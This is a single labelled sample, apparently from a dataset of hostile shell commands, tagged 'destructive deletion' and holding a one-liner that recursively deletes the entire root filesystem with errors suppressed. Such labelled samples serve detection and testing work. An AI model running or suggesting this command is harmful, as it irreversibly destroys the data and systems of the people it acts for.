# class: destructive deletion; style: one-liner
rm -rf --no-preserve-root / 2>/dev/null
